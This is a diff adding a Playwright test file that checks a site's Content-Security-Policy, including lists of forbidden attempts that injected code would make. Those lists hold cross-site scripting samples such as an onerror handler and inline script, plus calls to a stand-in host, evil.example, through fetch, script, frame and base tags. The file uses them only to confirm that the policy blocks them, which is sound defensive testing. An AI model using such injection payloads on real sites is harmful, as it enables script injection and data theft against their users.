@@ -1,0 +1,155 @@
+/**
+ * The Content-Security-Policy of every page, as header and in the page: allows all that the site does, and
+ * nothing else.
+ */
+import type { Page } from '@playwright/test';
+import { expect, rootUrl, test } from './fixtures.ts';
+import { expectViolation, policyViolations, recordPolicyViolations } from './policy-violations.ts';
+import { SPECIMEN_ARTICLE } from './sample-pages.ts';
+
+test.beforeEach(({ page }) => recordPolicyViolations(page));
+
+test('the app keeps to it on the way from page to page', async ({ page, visit }) => {
+  await visit('/');
+  const heading = page.getByRole('heading', { level: 1 });
+  const front = await heading.innerText();
+  await page.getByRole('main').getByRole('article').getByRole('link').first().click();
+  await expect(heading).not.toHaveText(front);
+  const first = await heading.innerText();
+  await page.getByRole('navigation', { name: 'Related' }).getByRole('link').first().click();
+  await expect(heading).not.toHaveText(first);
+  await page.goBack();
+  await expect(heading).toHaveText(first);
+  expect(await policyViolations(page)).toEqual([]);
+});
+
+test('an embed of a host that the site names is let in when the reader has chosen it', async ({
+  page,
+  visit,
+  complaints,
+}) => {
+  complaints.allow(/^request: https:\/\/www\.openstreetmap\.org/);
+  await page.route('https://www.openstreetmap.org/**', (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Map</title><p>A map</p>' }),
+  );
+  await visit(SPECIMEN_ARTICLE);
+  await page.getByRole('button', { name: 'Load from OpenStreetMap' }).click();
+  await expect(page.frameLocator('iframe').getByText('A map')).toBeVisible();
+  expect(await policyViolations(page)).toEqual([]);
+});
+
+test('an article is taken along as an e-book, which a worker binds', async ({ page, visit }) => {
+  await visit(SPECIMEN_ARTICLE);
+  await page.getByRole('button', { name: 'Share', exact: true }).first().click();
+  const worker = page.waitForEvent('worker');
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'E-book', exact: false }).click();
+  await Promise.all([worker, download]);
+  expect(await policyViolations(page)).toEqual([]);
+});
+
+test.describe('with a service worker', () => {
+  test.use({ serviceWorkers: 'allow' });
+  test('the app registers it', async ({ page, visit }) => {
+    await page.clock.install();
+    await visit('/');
+    await page.clock.fastForward(30_000);
+    await expect
+      .poll(() => page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length))
+      .toBe(1);
+    expect(await policyViolations(page)).toEqual([]);
+  });
+});
+
+test.describe('in a browser that knows no Trusted Types', () => {
+  test.use({ serviceWorkers: 'allow' });
+  test('the app registers its service worker all the same', async ({ page, visit }) => {
+    await page.addInitScript(() => Reflect.deleteProperty(window, 'trustedTypes'));
+    // The browser would otherwise ignore parts of the policy.
+    await page.context().route(rootUrl, async (route) => {
+      const response = await route.fetch();
+      const without = (policy: string): string =>
+        policy.replaceAll(/(?:require-trusted-types-for|trusted-types) [^;"]*;? ?/g, '');
+      const headers = {
+        ...response.headers(),
+        'content-security-policy': without(response.headers()['content-security-policy'] ?? ''),
+      };
+      await route.fulfill({ response, headers, body: without(await response.text()) });
+    });
+    await page.clock.install();
+    await visit('/');
+    await page.clock.fastForward(30_000);
+    await expect
+      .poll(() => page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length))
+      .toBe(1);
+  });
+});
+
+/** What injected script would try. */
+const FORBIDDEN: readonly [what: string, directive: string, attempt: () => void][] = [
+  ['words made a script', 'require-trusted-types-for', () => { document.createElement('script').textContent = 'window.x=1'; }],
+  ['a script by a plain address', 'require-trusted-types-for', () => { document.createElement('script').src = '/x.js'; }],
+  ['a worker by a plain address', 'require-trusted-types-for', () => new Worker('/x.js').terminate()],
+  ['an event handler', 'require-trusted-types-for', () => { document.body.setAttribute('onclick', 'window.x=1'); }],
+  ['words made markup', 'require-trusted-types-for', () => { document.body.innerHTML = '<p>'; }],
+  ['words made code', 'require-trusted-types-for', () => { const later: (code: string) => unknown = setTimeout; later('window.x=1'); }],
+  ['another policy for scripts', 'trusted-types', () => { (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('x', {}); }],
+  ['a style sheet in the page', 'style-src-elem', () => { const style = document.createElement('style'); style.textContent = 'p{color:red}'; document.head.append(style); }],
+  ['a frame of another host', 'frame-src', () => { const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame); }],
+  ['words sent elsewhere', 'connect-src', () => { fetch('https://evil.example/').catch(() => undefined); }],
+  ['another base', 'base-uri', () => { const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base); }],
+]; // prettier-ignore
+
+/** What injected markup would try. */
+const FORBIDDEN_MARKUP: readonly [what: string, directive: string, markup: string][] = [
+  ['a script in the page', 'script-src-elem', '<script>window.x=1</script>'],
+  ['a script of another host', 'script-src-elem', '<script src="https://evil.example/x.js"></script>'],
+  ['an event handler in the page', 'script-src-attr', '<img src="data:," onerror="window.x=1" alt="">'],
+];
+
+/** Chromium's console messages about violations. */
+const FORBIDS = /Content Security policy|requires 'Trusted/i;
+
+for (const [what, directive, attempt] of FORBIDDEN)
+  test(`${what} is refused`, async ({ page, visit, complaints }) => {
+    complaints.allow(FORBIDS, /^request: https:\/\/evil\.example\//);
+    await visit('/');
+    // Some attempts throw as well.
+    await page.evaluate(attempt).catch(() => undefined);
+    await expectViolation(page, directive);
+    expect(await page.evaluate(() => 'x' in window)).toBe(false);
+  });
+
+/** Serves the front page with markup added to its text. */
+const insertMarkup = (page: Page, markup: string): Promise<unknown> =>
+  page.route(rootUrl, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: (await response.text()).replace('</main>', `$&${markup}`) });
+  });
+
+for (const [what, directive, markup] of FORBIDDEN_MARKUP)
+  test(`${what} is refused`, async ({ page, complaints }) => {
+    complaints.allow(FORBIDS, /hydrat/i, /^request: https:\/\/evil\.example\//);
+    await insertMarkup(page, markup);
+    await page.goto(rootUrl);
+    await expectViolation(page, directive);
+    expect(await page.evaluate(() => 'x' in window)).toBe(false);
+  });
+
+test('without the header, as on a host that sends none, the page alone forbids the same', async ({
+  page,
+  visit,
+  complaints,
+}) => {
+  await page.route(rootUrl, async (route) => {
+    const response = await route.fetch();
+    const { 'content-security-policy': _, ...headers } = response.headers();
+    await route.fulfill({ response, headers });
+  });
+  await visit('/');
+  expect(complaints.all).toEqual([]);
+  complaints.allow(FORBIDS);
+  await page.evaluate(() => new Worker('/x.js')).catch(() => undefined);
+  await expectViolation(page, 'require-trusted-types-for');
+  expect(await page.evaluate(() => 'x' in window)).toBe(false);
+});
